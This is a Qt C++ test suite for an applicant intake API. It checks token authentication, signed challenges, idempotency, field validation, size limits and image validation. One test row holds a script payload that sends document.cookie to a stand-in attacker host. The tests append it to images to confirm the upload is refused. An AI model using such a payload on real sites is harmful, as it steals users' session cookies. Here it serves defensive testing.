#include "core/intake/CaseBundleReader.h"
#include "core/intake/ChallengeStore.h"
#include "core/intake/ReceiverServer.h"
#include "core/intake/ReferenceNumber.h"
#include "core/intake/Spool.h"
#include "tests/support/ImageFiles.h"
#include "tests/support/LineSimulator.h"

#include "ApplicantTestKit.h"
#include "HttpTestClient.h"
#include "IntakeTestKit.h"

#include <QDir>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QMessageAuthenticationCode>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>

#include <sqlite3.h>

#include <thread>

using namespace mado;

namespace {
const QString kChannel = QStringLiteral("1650000001");
const QString kUser = QStringLiteral("U1111111111111111111111111111aaaa");
const QString kOtherUser = QStringLiteral("U2222222222222222222222222222bbbb");
const QByteArray kChallengeKey = QByteArrayLiteral("test-challenge-key-0123456789abcdef");
const QByteArray kAccessToken = QByteArrayLiteral("test-access-token");
} // namespace

// The applicant (LIFF) API over real loopback HTTP: a real receiver, a real SQLite spool and the
// LINE simulator answering the ID token verification.
class TestApplicantApi : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void init();
    void cleanup();
    void invalidIdTokenIs401_data();
    void invalidIdTokenIs401();
    void challengeIsSignedAndStoredForTheTokensUser();
    void directionsAreRandomAndNeverRepeat();
    void applicationIsStoredAsAValidBundle();
    void sameIdempotencyKeyGivesSameReference();
    void concurrentSameKeyIsStoredOnce();
    void challengeReusedIs409();
    void challengeExpiredIs410();
    void otherUsersChallengeIsRefused();
    void badImageIsRefusedAndNothingStored_data();
    void badImageIsRefusedAndNothingStored();
    void badFieldIs400NamingIt_data();
    void badFieldIs400NamingIt();
    void requestShape_data();
    void requestShape();
    void declaredOversizeIsRefusedBeforeReading();
    void orphanedImageDirectoryIsRemovedAtStart();

private:
    QString token(const QString &user = kUser) { return m_line->mintIdToken(user, kChannel); }
    HttpTestClient::Reply requestChallenge(const QString &idToken);
    QString newNonce(const QString &user = kUser);
    HttpTestClient::Reply submit(const MultipartBody &body, const QString &idToken, const std::string &key);
    qint64 count(const char *sql) const;
    QStringList imageDirectories() const;
    static QJsonObject json(const HttpTestClient::Reply &reply) { return QJsonDocument::fromJson(reply.body).object(); }
    static QString errorField(const HttpTestClient::Reply &reply)
    {
        return json(reply).value(QStringLiteral("error")).toObject().value(QStringLiteral("field")).toString();
    }

    std::unique_ptr<QTemporaryDir> m_dir;
    std::unique_ptr<test::LineSimulator> m_line;
    std::unique_ptr<Spool> m_spool;
    std::unique_ptr<ReceiverServer> m_server;
    static constexpr qint64 kBodyLimit = 2 * 1024 * 1024;
};

void TestApplicantApi::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    QVERIFY(m_dir->isValid());
    m_line = std::make_unique<test::LineSimulator>(kAccessToken);
    QVERIFY(m_line->start());
    auto spool = Spool::open(m_dir->filePath(QStringLiteral("spool.sqlite")));
    QVERIFY2(spool.ok(), qPrintable(spool.ok() ? QString() : spool.error().message));
    m_spool = std::move(spool).value();
    ReceiverOptions options;
    options.port = 0;
    options.maxThreads = 8;
    options.channelSecret = IntakeTestKit::channelSecret();
    options.lineApiBase = m_line->baseUrl();
    options.liffChannelId = kChannel;
    options.challengeKey = kChallengeKey;
    options.maxApplicationBytes = kBodyLimit;
    options.imageLimits = ImageLimits{512 * 1024, 4'000'000, 4000};
    m_server = std::make_unique<ReceiverServer>(options, *m_spool);
    QVERIFY(m_server->start().ok());
}

void TestApplicantApi::cleanup()
{
    m_server.reset();
    m_spool.reset();
    m_line.reset();
    m_dir.reset();
}

HttpTestClient::Reply TestApplicantApi::requestChallenge(const QString &idToken)
{
    HttpTestClient::Headers headers;
    if (!idToken.isNull())
        headers.emplace_back("Authorization", "Bearer " + idToken.toStdString());
    return HttpTestClient::request(m_server->port(), "POST", "/api/v1/challenges", {}, headers);
}

QString TestApplicantApi::newNonce(const QString &user)
{
    const auto reply = requestChallenge(token(user));
    if (reply.status != 201)
        qWarning() << "challenge request failed" << reply.status << reply.body;
    return json(reply).value(QStringLiteral("nonce")).toString();
}

HttpTestClient::Reply TestApplicantApi::submit(const MultipartBody &body, const QString &idToken,
                                               const std::string &key)
{
    HttpTestClient::Headers headers{{"Content-Type", body.contentType()}};
    if (!idToken.isNull())
        headers.emplace_back("Authorization", "Bearer " + idToken.toStdString());
    if (!key.empty())
        headers.emplace_back("Idempotency-Key", key);
    return HttpTestClient::request(m_server->port(), "POST", "/api/v1/applications", body.bytes(), headers);
}

qint64 TestApplicantApi::count(const char *sql) const
{
    sqlite3 *db = nullptr;
    sqlite3_open_v2(m_spool->path().toUtf8().constData(), &db, SQLITE_OPEN_READONLY, nullptr);
    sqlite3_stmt *statement = nullptr;
    qint64 result = -1;
    if (sqlite3_prepare_v2(db, sql, -1, &statement, nullptr) == SQLITE_OK && sqlite3_step(statement) == SQLITE_ROW)
        result = sqlite3_column_int64(statement, 0);
    sqlite3_finalize(statement);
    sqlite3_close(db);
    return result;
}

QStringList TestApplicantApi::imageDirectories() const
{
    return QDir(m_spool->filesDirectory()).entryList(QDir::Dirs | QDir::NoDotAndDotDot | QDir::Hidden);
}

void TestApplicantApi::invalidIdTokenIs401_data()
{
    QTest::addColumn<QString>("idToken");
    QTest::addColumn<bool>("forApplication");
    for (bool application : {false, true}) {
        const char *call = application ? "application" : "challenge";
        QTest::addRow("%s: no Authorization header", call) << QString() << application;
        QTest::addRow("%s: token unknown to LINE", call) << QStringLiteral("forged-token") << application;
        QTest::addRow("%s: expired token", call) << QStringLiteral("mint:expired") << application;
        QTest::addRow("%s: token of another channel", call) << QStringLiteral("mint:other-channel") << application;
    }
}

void TestApplicantApi::invalidIdTokenIs401()
{
    QFETCH(QString, idToken);
    QFETCH(bool, forApplication);
    if (idToken == QLatin1String("mint:expired"))
        idToken = m_line->mintIdToken(kUser, kChannel, -5);
    else if (idToken == QLatin1String("mint:other-channel"))
        idToken = m_line->mintIdToken(kUser, QStringLiteral("1650009999"));
    HttpTestClient::Reply reply;
    if (forApplication) {
        const QString nonce = newNonce();
        QVERIFY(!nonce.isEmpty());
        reply = submit(ApplicantTestKit::body(ApplicantTestKit::fields(nonce), ApplicantTestKit::images()), idToken,
                       "key-00000001");
    } else {
        reply = requestChallenge(idToken);
    }
    QCOMPARE(reply.status, 401);
    QCOMPARE(json(reply).value(QStringLiteral("error")).toObject().value(QStringLiteral("code")).toString(),
             QStringLiteral("unauthorized"));
    QCOMPARE(count("SELECT count(*) FROM applications"), 0);
    QCOMPARE(count("SELECT count(*) FROM challenges"), forApplication ? 1 : 0);
}

void TestApplicantApi::challengeIsSignedAndStoredForTheTokensUser()
{
    const auto reply = requestChallenge(token());
    QCOMPARE(reply.status, 201);
    const QJsonObject body = json(reply);
    const QString nonce = body.value(QStringLiteral("nonce")).toString();
    QVERIFY(QRegularExpression(QStringLiteral("^[A-Za-z0-9_-]{43}$")).match(nonce).hasMatch());
    const QDateTime issued =
        QDateTime::fromString(body.value(QStringLiteral("issuedAt")).toString(), Qt::ISODateWithMs);
    const QDateTime expires =
        QDateTime::fromString(body.value(QStringLiteral("expiresAt")).toString(), Qt::ISODateWithMs);
    QCOMPARE(issued.secsTo(expires), 600);
    QVERIFY(qAbs(issued.secsTo(QDateTime::currentDateTimeUtc())) < 30);
    QStringList directions;
    for (const QJsonValue &d : body.value(QStringLiteral("directions")).toArray())
        directions << d.toString();
    QCOMPARE(directions.size(), 3);
    // The signature, recomputed independently with Qt's HMAC over the documented canonical text.
    const QByteArray canonical = "madoguchi-challenge-v1\n" + nonce.toUtf8() + '\n' +
                                 body.value(QStringLiteral("issuedAt")).toString().toUtf8() + '\n' +
                                 body.value(QStringLiteral("expiresAt")).toString().toUtf8() + '\n' +
                                 directions.join(QLatin1Char(',')).toUtf8();
    QCOMPARE(body.value(QStringLiteral("signature")).toString().toLatin1(),
             QMessageAuthenticationCode::hash(canonical, kChallengeKey, QCryptographicHash::Sha256).toBase64());
    QCOMPARE(count("SELECT count(*) FROM challenges WHERE user_id = 'U1111111111111111111111111111aaaa' "
                   "AND used_at IS NULL"),
             1);
    QVERIFY(newNonce() != nonce);
}

void TestApplicantApi::directionsAreRandomAndNeverRepeat()
{
    // 3 positions x 4 directions: each must occur, and no direction twice in a row.
    int seen[3][4] = {};
    for (int i = 0; i < 2000; ++i) {
        const auto directions = ChallengeStore::drawDirections();
        for (std::size_t p = 0; p < 3; ++p) {
            QVERIFY(directions[p] != Direction::Front);
            ++seen[p][int(directions[p]) - 1];
            if (p > 0)
                QVERIFY(directions[p] != directions[p - 1]);
        }
    }
    for (auto &position : seen)
        for (int n : position)
            QVERIFY2(n > 300, "a direction is drawn far less often than a quarter of the time");
}

void TestApplicantApi::applicationIsStoredAsAValidBundle()
{
    const QString nonce = newNonce();
    auto images = ApplicantTestKit::images();
    images[QStringLiteral("document_tilted")] = ApplicantTestKit::smallPng();
    const auto reply = submit(ApplicantTestKit::body(ApplicantTestKit::fields(nonce), images), token(), "key-00000001");
    QVERIFY2(reply.status == 201, reply.body.constData());
    const QString reference = json(reply).value(QStringLiteral("reference")).toString();
    const QString id = json(reply).value(QStringLiteral("applicationId")).toString();
    QVERIFY2(ReferenceNumber::isValid(reference), qPrintable(reference));
    QVERIFY(reference.endsWith(QStringLiteral("-00001-") + reference.right(1)));
    QCOMPARE(count("SELECT count(*) FROM applications WHERE manifest IS NOT NULL"), 1);
    QCOMPARE(count("SELECT count(*) FROM challenges WHERE used_at IS NOT NULL"), 1);
    QCOMPARE(imageDirectories(), QStringList{id});

    // The stored manifest and files form a bundle that the workstation's reader accepts.
    sqlite3 *db = nullptr;
    QCOMPARE(sqlite3_open_v2(m_spool->path().toUtf8().constData(), &db, SQLITE_OPEN_READONLY, nullptr), SQLITE_OK);
    sqlite3_stmt *statement = nullptr;
    QCOMPARE(sqlite3_prepare_v2(db, "SELECT manifest FROM applications", -1, &statement, nullptr), SQLITE_OK);
    QCOMPARE(sqlite3_step(statement), SQLITE_ROW);
    const QByteArray manifest(reinterpret_cast<const char *>(sqlite3_column_text(statement, 0)));
    sqlite3_finalize(statement);
    sqlite3_close(db);
    const QString bundleDir = m_spool->filesDirectory() + QLatin1Char('/') + id;
    QVERIFY(test::writeFile(bundleDir + QStringLiteral("/case.json"), manifest));
    const auto reader = CaseBundleReader::create();
    QVERIFY(reader.ok());
    const auto bundle = reader.value().read(bundleDir);
    QVERIFY2(bundle.ok(), qPrintable(bundle.ok() ? QString() : bundle.error().message));
    QCOMPARE(bundle.value().reference, reference);
    QCOMPARE(bundle.value().applicant.kana, QStringLiteral("ミホン ハナコ"));
    QCOMPARE(bundle.value().applicant.copies, 2);
    QCOMPARE(bundle.value().challenge.nonce, nonce);
    QVERIFY(bundle.value().documentTilted.has_value());
    QCOMPARE(bundle.value().frames.at(1).image.file, QStringLiteral("frame1.png"));
}

void TestApplicantApi::sameIdempotencyKeyGivesSameReference()
{
    const QString nonce = newNonce();
    const auto body = ApplicantTestKit::body(ApplicantTestKit::fields(nonce), ApplicantTestKit::images());
    const auto first = submit(body, token(), "key-same-0001");
    QCOMPARE(first.status, 201);
    const auto again = submit(body, token(), "key-same-0001");
    QCOMPARE(again.status, 201);
    QCOMPARE(json(again).value(QStringLiteral("reference")), json(first).value(QStringLiteral("reference")));
    QCOMPARE(count("SELECT count(*) FROM applications"), 1);
    QCOMPARE(imageDirectories().size(), 1);
    // Another key with the same (now used) challenge is a conflict, not a second application.
    const auto other = submit(body, token(), "key-other-0002");
    QCOMPARE(other.status, 409);
    // The same key from another user is that user's own key.
    const QString otherNonce = newNonce(kOtherUser);
    const auto otherUser =
        submit(ApplicantTestKit::body(ApplicantTestKit::fields(otherNonce), ApplicantTestKit::images()),
               token(kOtherUser), "key-same-0001");
    QCOMPARE(otherUser.status, 201);
    QVERIFY(json(otherUser).value(QStringLiteral("reference")) != json(first).value(QStringLiteral("reference")));
    QCOMPARE(count("SELECT count(*) FROM applications"), 2);
}

void TestApplicantApi::concurrentSameKeyIsStoredOnce()
{
    const QString nonce = newNonce();
    const QString idToken = token();
    const auto body = ApplicantTestKit::body(ApplicantTestKit::fields(nonce), ApplicantTestKit::images());
    std::vector<HttpTestClient::Reply> replies(6);
    std::vector<std::thread> threads;
    for (std::size_t i = 0; i < replies.size(); ++i)
        threads.emplace_back([&, i] { replies[i] = submit(body, idToken, "key-race-0001"); });
    for (auto &t : threads)
        t.join();
    for (const auto &reply : replies) {
        QCOMPARE(reply.status, 201);
        QCOMPARE(json(reply).value(QStringLiteral("reference")), json(replies[0]).value(QStringLiteral("reference")));
    }
    QCOMPARE(count("SELECT count(*) FROM applications"), 1);
    QCOMPARE(imageDirectories().size(), 1);
}

void TestApplicantApi::challengeReusedIs409()
{
    const QString nonce = newNonce();
    QCOMPARE(submit(ApplicantTestKit::body(ApplicantTestKit::fields(nonce), ApplicantTestKit::images()), token(),
                    "key-first-001")
                 .status,
             201);
    const auto reused = submit(ApplicantTestKit::body(ApplicantTestKit::fields(nonce), ApplicantTestKit::images()),
                               token(), "key-second-002");
    QCOMPARE(reused.status, 409);
    QCOMPARE(errorField(reused), QStringLiteral("challenge"));
    QCOMPARE(count("SELECT count(*) FROM applications"), 1);
    QCOMPARE(imageDirectories().size(), 1);
}

void TestApplicantApi::challengeExpiredIs410()
{
    ChallengeStore store(*m_spool, kChallengeKey, 600);
    const auto old = store.issue(kUser, QDateTime::currentDateTimeUtc().addSecs(-601));
    QVERIFY(old.ok());
    const auto reply =
        submit(ApplicantTestKit::body(ApplicantTestKit::fields(old.value().nonce), ApplicantTestKit::images()), token(),
               "key-late-0001");
    QCOMPARE(reply.status, 410);
    QCOMPARE(errorField(reply), QStringLiteral("challenge"));
    QCOMPARE(count("SELECT count(*) FROM applications"), 0);
    QVERIFY(imageDirectories().isEmpty());
}

void TestApplicantApi::otherUsersChallengeIsRefused()
{
    const QString othersNonce = newNonce(kOtherUser);
    const auto reply = submit(ApplicantTestKit::body(ApplicantTestKit::fields(othersNonce), ApplicantTestKit::images()),
                              token(kUser), "key-steal-0001");
    QCOMPARE(reply.status, 400);
    QCOMPARE(errorField(reply), QStringLiteral("challenge"));
    QCOMPARE(count("SELECT count(*) FROM challenges WHERE used_at IS NOT NULL"), 0);
    QCOMPARE(count("SELECT count(*) FROM applications"), 0);
}

void TestApplicantApi::badImageIsRefusedAndNothingStored_data()
{
    QTest::addColumn<QString>("part");
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<int>("status");
    const QByteArray jpeg = ApplicantTestKit::smallJpeg();
    const QByteArray png = ApplicantTestKit::smallPng();
    const QByteArray script = "<script>fetch('https://evil.invalid/'+document.cookie)</script>";
    QTest::addRow("JPEG truncated") << "frame2" << jpeg.left(jpeg.size() / 2) << 422;
    QTest::addRow("JPEG without its last byte") << "document_front" << jpeg.chopped(1) << 422;
    QTest::addRow("PNG claiming 60000x60000") << "frame1" << test::pngHeaderClaiming(60000, 60000) << 422;
    QTest::addRow("PNG truncated") << "frame1" << png.left(png.size() - 20) << 422;
    QTest::addRow("text, not an image") << "frame0" << QByteArray("hello, this is not an image") << 415;
    QTest::addRow("GIF") << "document_front" << QByteArray("GIF89a\x01\x00\x01\x00\x00\x00\x00;", 14) << 415;
    QTest::addRow("JPEG with a script appended") << "frame3" << jpeg + script << 422;
    QTest::addRow("JPEG with script and a fake end marker") << "frame3" << jpeg + script + "\xFF\xD9" << 422;
    QTest::addRow("PNG with a script after IEND") << "frame1" << png + script << 422;
    QTest::addRow("empty part") << "frame0" << QByteArray("") << 422;
    QTest::addRow("image over the byte limit") << "document_front" << jpeg + QByteArray(600 * 1024, 'x') << 422;
}

void TestApplicantApi::badImageIsRefusedAndNothingStored()
{
    QFETCH(QString, part);
    QFETCH(QByteArray, bytes);
    QFETCH(int, status);
    const QString nonce = newNonce();
    auto images = ApplicantTestKit::images();
    images[part] = bytes.isNull() ? QByteArray("") : bytes;
    const auto reply =
        submit(ApplicantTestKit::body(ApplicantTestKit::fields(nonce), images), token(), "key-image-001");
    QCOMPARE(reply.status, status);
    QCOMPARE(errorField(reply), part);
    QCOMPARE(count("SELECT count(*) FROM applications"), 0);
    QCOMPARE(count("SELECT count(*) FROM challenges WHERE used_at IS NOT NULL"), 0);
    QVERIFY(imageDirectories().isEmpty());
    // The same challenge still works with good images.
    QCOMPARE(submit(ApplicantTestKit::body(ApplicantTestKit::fields(nonce), ApplicantTestKit::images()), token(),
                    "key-image-002")
                 .status,
             201);
}

void TestApplicantApi::badFieldIs400NamingIt_data()
{
    QTest::addColumn<QString>("field");
    QTest::addColumn<QString>("value");
    QTest::addColumn<QString>("expectedField");
    QTest::addRow("kana in hiragana") << "kana"
                                      << "みほん はなこ"
                                      << "kana";
    QTest::addRow("postal code without hyphen") << "postalCode"
                                                << "1000001"
                                                << "postalCode";
    QTest::addRow("date of birth not a date") << "dateOfBirth"
                                              << "1985-02-30"
                                              << "dateOfBirth";
    QTest::addRow("date of birth in the future") << "dateOfBirth"
                                                 << "2999-01-01"
                                                 << "dateOfBirth";
    QTest::addRow("copies 11") << "copies"
                               << "11"
                               << "copies";
    QTest::addRow("copies not a number") << "copies"
                                         << "two"
                                         << "copies";
    QTest::addRow("phone with letters") << "phone"
                                        << "03-CALL-ME"
                                        << "phone";
    QTest::addRow("email without @") << "email"
                                     << "hanako.example.jp"
                                     << "email";
    QTest::addRow("unknown document type") << "documentType"
                                           << "passport_card"
                                           << "documentType";
    QTest::addRow("procedure with capitals") << "procedure"
                                             << "Juminhyo"
                                             << "procedure";
    QTest::addRow("name missing") << "name" << QString() << "name";
    QTest::addRow("unknown field") << "nickname"
                                   << "hana"
                                   << "nickname";
    QTest::addRow("capture times going back") << "frame2_capturedAt"
                                              << "2000-01-01T00:00:00Z"
                                              << "frame2_capturedAt";
}

void TestApplicantApi::badFieldIs400NamingIt()
{
    QFETCH(QString, field);
    QFETCH(QString, value);
    QFETCH(QString, expectedField);
    const QString nonce = newNonce();
    auto fields = ApplicantTestKit::fields(nonce);
    fields[field] = value;
    const auto reply = submit(ApplicantTestKit::body(fields, ApplicantTestKit::images()), token(), "key-field-001");
    QCOMPARE(reply.status, 400);
    QCOMPARE(errorField(reply), expectedField);
    // The answer names the problem but does not echo the value (it may be personal data).
    if (!value.isEmpty())
        QVERIFY(!reply.body.contains(value.toUtf8()));
    QCOMPARE(count("SELECT count(*) FROM applications"), 0);
    QVERIFY(imageDirectories().isEmpty());
}

void TestApplicantApi::requestShape_data()
{
    QTest::addColumn<QString>("what");
    QTest::addColumn<int>("status");
    QTest::addRow("body over the limit, chunked") << "oversize" << 413;
    QTest::addRow("JSON instead of multipart") << "json" << 415;
    QTest::addRow("no Idempotency-Key") << "nokey" << 400;
    QTest::addRow("frame3 missing") << "noframe" << 400;
    QTest::addRow("image sent as a text field") << "textimage" << 400;
    QTest::addRow("frame1 twice") << "twice" << 400;
}

void TestApplicantApi::requestShape()
{
    QFETCH(QString, what);
    QFETCH(int, status);
    const QString nonce = newNonce();
    auto fields = ApplicantTestKit::fields(nonce);
    auto images = ApplicantTestKit::images();
    std::string key = "key-shape-0001";
    if (what == QLatin1String("oversize"))
        images[QStringLiteral("document_tilted")] = QByteArray(kBodyLimit, 'x');
    if (what == QLatin1String("nokey"))
        key.clear();
    if (what == QLatin1String("noframe"))
        images.remove(QStringLiteral("frame3"));
    if (what == QLatin1String("textimage")) {
        images.remove(QStringLiteral("frame3"));
        fields[QStringLiteral("frame3")] = QStringLiteral("/9j/4AAQ");
    }
    MultipartBody body = ApplicantTestKit::body(fields, images);
    if (what == QLatin1String("twice"))
        body.addFile(QStringLiteral("frame1"), ApplicantTestKit::smallJpeg());
    HttpTestClient::Reply reply;
    if (what == QLatin1String("json")) {
        reply = HttpTestClient::request(m_server->port(), "POST", "/api/v1/applications", "{}",
                                        {{"Content-Type", "application/json"},
                                         {"Authorization", "Bearer " + token().toStdString()},
                                         {"Idempotency-Key", key}});
    } else if (what == QLatin1String("oversize")) {
        reply = HttpTestClient::requestChunked(m_server->port(), "POST", "/api/v1/applications", body.bytes(),
                                               {{"Content-Type", body.contentType()},
                                                {"Authorization", "Bearer " + token().toStdString()},
                                                {"Idempotency-Key", key}});
    } else {
        reply = submit(body, token(), key);
    }
    QCOMPARE(reply.status, status);
    QVERIFY(json(reply).value(QStringLiteral("error")).toObject().contains(QStringLiteral("message")));
    QCOMPARE(count("SELECT count(*) FROM applications"), 0);
    QVERIFY(imageDirectories().isEmpty());
}

void TestApplicantApi::declaredOversizeIsRefusedBeforeReading()
{
    // Only the head is sent: the 413 comes without the receiver waiting for (or reading) the body.
    const QByteArray head = "POST /api/v1/applications HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                            "Content-Type: multipart/form-data; boundary=x\r\nIdempotency-Key: key-big-00001\r\n"
                            "Authorization: Bearer " +
                            token().toUtf8() + "\r\nContent-Length: " + QByteArray::number(kBodyLimit + 1) + "\r\n\r\n";
    const auto reply = HttpTestClient::sendPartial(m_server->port(), head);
    QCOMPARE(reply.status, 413);
    QCOMPARE(json(reply).value(QStringLiteral("error")).toObject().value(QStringLiteral("code")).toString(),
             QStringLiteral("body_too_large"));
    QCOMPARE(count("SELECT count(*) FROM applications"), 0);
}

void TestApplicantApi::orphanedImageDirectoryIsRemovedAtStart()
{
    const QString nonce = newNonce();
    const auto reply = submit(ApplicantTestKit::body(ApplicantTestKit::fields(nonce), ApplicantTestKit::images()),
                              token(), "key-keep-0001");
    QCOMPARE(reply.status, 201);
    const QString kept = json(reply).value(QStringLiteral("applicationId")).toString();
    m_server->stop();
    m_server.reset();
    // What a crash between the rename and the commit, or during the writes, leaves behind.
    QVERIFY(QDir().mkpath(m_spool->filesDirectory() + QStringLiteral("/0d4c8a52-orphan")));
    QVERIFY(test::writeFile(m_spool->filesDirectory() + QStringLiteral("/0d4c8a52-orphan/frame0.jpg"), "x"));
    QVERIFY(QDir().mkpath(m_spool->filesDirectory() + QStringLiteral("/.tmp-0d4c8a53")));
    ReceiverOptions options;
    options.port = 0;
    options.channelSecret = IntakeTestKit::channelSecret();
    m_server = std::make_unique<ReceiverServer>(options, *m_spool);
    QVERIFY(m_server->start().ok());
    QCOMPARE(imageDirectories(), QStringList{kept});
}

QTEST_GUILESS_MAIN(TestApplicantApi)
#include "TestApplicantApi.moc"
